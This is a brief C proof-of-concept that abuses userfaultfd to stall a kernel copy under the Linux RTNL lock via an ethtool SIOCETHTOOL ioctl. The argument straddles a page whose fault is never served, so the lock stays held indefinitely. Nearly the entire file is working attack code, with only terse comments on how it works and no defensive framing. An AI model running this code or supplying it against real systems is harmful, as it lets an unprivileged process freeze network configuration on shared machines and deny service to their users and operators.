/* Holds the kernel's RTNL until it is killed: ethtool's ioctl reads its argument under that lock, and half of this one is on a
   page that never comes, since no process serves the faults of the userfaultfd that it is registered with. */
#include <fcntl.h>
#include <linux/ethtool.h>
#include <linux/sockios.h>
#include <linux/userfaultfd.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int failed(const char *what) {
  perror(what);
  return 1;
}

int main(void) {
  long page = sysconf(_SC_PAGESIZE);
  char *area = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (area == MAP_FAILED) return failed("mmap");
  int faults = syscall(SYS_userfaultfd, O_CLOEXEC);
  struct uffdio_api api = {.api = UFFD_API};
  if (faults < 0 || ioctl(faults, UFFDIO_API, &api)) return failed("userfaultfd");
  struct uffdio_register missing = {
      .range = {(unsigned long)area + page, page}, .mode = UFFDIO_REGISTER_MODE_MISSING};
  if (ioctl(faults, UFFDIO_REGISTER, &missing)) return failed("UFFDIO_REGISTER");
  /* The command is read before the lock is taken, all of it after. */
  __u32 command = ETHTOOL_GSTRINGS;
  char *argument = area + page - sizeof command;
  memcpy(argument, &command, sizeof command);
  struct ifreq request = {.ifr_name = "lo", .ifr_data = argument};
  int any = socket(AF_INET, SOCK_DGRAM, 0);
  if (any < 0) return failed("socket");
  ioctl(any, SIOCETHTOOL, &request);
  return failed("the lock was not held: ioctl came back");
}
